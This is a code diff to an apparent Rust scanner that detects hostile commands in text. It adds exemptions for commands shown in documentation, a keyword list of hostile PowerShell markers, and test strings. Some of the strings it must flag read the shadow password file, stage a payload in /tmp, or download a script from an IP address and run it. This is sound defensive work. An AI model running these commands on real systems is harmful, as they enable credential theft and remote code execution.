@@ -2527,7 +2527,10 @@ fn check_command_at(
     {
         return false;
     }
-    if doc && effective == Ctx::Span && args.net_only {
+    if doc
+        && effective == Ctx::Span
+        && (args.net_only || (cmd.kind != Kind::Interp && shown_files_only(&text[w.end..args.end])))
+    {
         return false;
     }
     if !decide(cmd, effective, &args) {
@@ -3886,24 +3889,111 @@ fn joins_clauses(b: &[u8], seg_start: usize, p: usize, seg_end: usize) -> bool {
     tokens >= 3 && stop
 }
 
+/// Whether the only strong evidence in a command's arguments is a file
+/// under a system directory that every guide names (`/etc/os-release`,
+/// `~/.ssh/config`, `/usr/bin/env`): no shell path, no key or password
+/// file, no URL or address, no staging directory such as `/tmp/`.
+fn shown_files_only(args: &str) -> bool {
+    const BROAD: &[&str] = &["/etc/", "/bin/", "/usr/bin/", ".ssh", "/proc/"];
+    let lower = args.to_ascii_lowercase();
+    let mut any = false;
+    for m in SENSITIVE_AC.find_overlapping_iter(&lower) {
+        let pat = SENSITIVE
+            .iter()
+            .chain(INNER_SHELL)
+            .nth(m.pattern().as_usize())
+            .copied()
+            .unwrap_or("");
+        if !BROAD.contains(&pat) {
+            return false;
+        }
+        any = true;
+    }
+    any && !lower.contains("://")
+        && !lower
+            .split_ascii_whitespace()
+            .any(|t| looks_like_ip(t) || looks_like_host(t))
+}
+
+/// Code spans that a documentation sentence goes on after (see
+/// [`prose_after_span`]), opened after a blank or at the start of a value,
+/// as `(start, end)` with `end` at the closing backtick.
+fn doc_spans(b: &[u8]) -> Vec<(usize, usize)> {
+    let mut spans = Vec::new();
+    let mut i = 0;
+    while let Some(o) = memchr::memchr(b'`', &b[i..]) {
+        let at = i + o;
+        if b.get(at + 1) == Some(&b'`') {
+            // A fence or an empty span: not a code span in a sentence.
+            i = at + b[at..].iter().take_while(|&&c| c == b'`').count();
+            continue;
+        }
+        let seg_end = memchr::memchr(0, &b[at..]).map_or(b.len(), |p| at + p);
+        let Some(c) = b[at + 1..seg_end].iter().take(400).position(|&y| y == b'`') else {
+            break;
+        };
+        let end = at + 1 + c;
+        let opens = at == 0 || matches!(b[at - 1], b' ' | b'\t' | b'\n' | 0);
+        if opens && prose_after_span(b, end, seg_end) {
+            spans.push((at, end));
+        }
+        i = end + 1;
+    }
+    spans
+}
+
+/// PowerShell that does more than documentation shows: code run from a
+/// string or a download, encoded commands, a hidden window, the policy or
+/// the virus scanner switched off.
+fn hostile_powershell(span: &[u8]) -> bool {
+    let l = span.to_ascii_lowercase();
+    [
+        &b"iex"[..],
+        b"invoke-expression",
+        b"-enc",
+        b"-e ",
+        b"downloadstring",
+        b"downloaddata",
+        b"frombase64string",
+        b"bypass",
+        b"unrestricted",
+        b"hidden",
+        b"-nop",
+        b"mppreference",
+        b"net.webclient",
+        b"|",
+        b";",
+        b"$env:temp",
+        b"\\temp\\",
+        b"\\users\\public",
+    ]
+    .iter()
+    .any(|w| memchr::memmem::find(&l, w).is_some())
+}
+
 /// Whether a sentence goes on after the code span that closes at `end`: a
 /// blank, then three words of lower-case prose ("fixes the 'bad
 /// permissions' error", "and read the script", "lets local scripts run").
 fn prose_after_span(b: &[u8], end: usize, seg_end: usize) -> bool {
     let after = &b[(end + 1).min(seg_end)..seg_end];
     let after = &after[..after.len().min(120)];
-    after.first() == Some(&b' ')
-        && after
-            .split(|c| c.is_ascii_whitespace())
-            .filter(|w| !w.is_empty())
-            .take(3)
-            .filter(|w| {
-                w.iter().any(u8::is_ascii_lowercase)
-                    && w.iter()
-                        .all(|c| c.is_ascii_lowercase() || matches!(c, b',' | b'.' | b'\''))
-            })
-            .count()
-            == 3
+    let lower = |w: &[u8]| {
+        w.iter().any(u8::is_ascii_lowercase)
+            && w.iter()
+                .all(|c| c.is_ascii_lowercase() || matches!(c, b',' | b'.' | b'\'' | b'-'))
+    };
+    let (mut words, mut plain) = (0, 0);
+    for w in after
+        .split(|c| c.is_ascii_whitespace())
+        .filter(|w| !w.is_empty())
+        .take(3)
+    {
+        // A name among the words ("opens Notepad from") is prose too.
+        let name = w.len() > 1 && w[0].is_ascii_uppercase() && lower(&w[1..]);
+        plain += usize::from(lower(w));
+        words += usize::from(lower(w) || name);
+    }
+    after.first() == Some(&b' ') && words == 3 && plain >= 1
 }
 
 /// Whether the `=` at `eq` gives the value of a long option of a build
@@ -5288,6 +5378,29 @@ pub(crate) fn scan(text: &str, hits: &mut Vec<Hit>) {
         scan_jndi(text, hits);
     }
     scan_argument_injection(text, hits);
+    // "`Start-Process notepad.exe` opens Notepad": a PowerShell command
+    // shown in a code span that a sentence explains; the idiom regexes do
+    // not see the span, so its hits are weighed here.
+    let windows = &RULES[R_WINDOWS];
+    if hits[first..].iter().any(|h| std::ptr::eq(h.rule, windows))
+        && memchr::memchr(b'`', text.as_bytes()).is_some()
+    {
+        let b = text.as_bytes();
+        let spans = doc_spans(b);
+        let mut k = first;
+        while k < hits.len() {
+            let h = &hits[k];
+            let shown = std::ptr::eq(h.rule, windows)
+                && spans.iter().any(|&(s, e)| {
+                    s <= h.start && h.end <= e + 1 && !hostile_powershell(&b[s + 1..e])
+                });
+            if shown {
+                hits.remove(k);
+            } else {
+                k += 1;
+            }
+        }
+    }
     dedupe(hits, first);
 }
 
@@ -5992,6 +6105,11 @@ mod tests {
             "Disk /srv/media is almost full; copy the older videos to the archive.",
             "The cache grew too large; move the log files to another disk.",
             "set -g prefix C-a\nset -g base-index 1\nsetw -g mode-keys vi",
+            "`less /etc/default/grub` shows the kernel options in use.",
+            "`ls -l /usr/bin/python3` tells you where the link points.",
+            "`Start-Service Spooler` brings the Print Spooler back after a crash.",
+            "`Start-Process msedge.exe` opens Edge with your default profile.",
+            "`Invoke-WebRequest -Uri https://downloads.example.com/tool.msi -OutFile tool.msi` fetches the installer.",
         ] {
             assert!(!flagged(t), "{t:?}");
         }
@@ -6003,6 +6121,11 @@ mod tests {
             "Set-ExecutionPolicy -ExecutionPolicy Unrestricted -Force",
             "comment=I like it a lot; cat /etc/shadow.",
             "x=1\nset -e\nid",
+            "`cat /etc/shadow` lists the hashes for you.",
+            "`cp payload /tmp/x && chmod +x /tmp/x` then run it as usual.",
+            "`Start-Process powershell -WindowStyle Hidden -ArgumentList x` runs it in the background.",
+            "`Invoke-WebRequest https://203.0.113.8/a.ps1 | iex` loads the module for you.",
+            "q=`Start-Process calc.exe` please",
         ] {
             assert!(flagged(t), "missed {t:?}");
         }
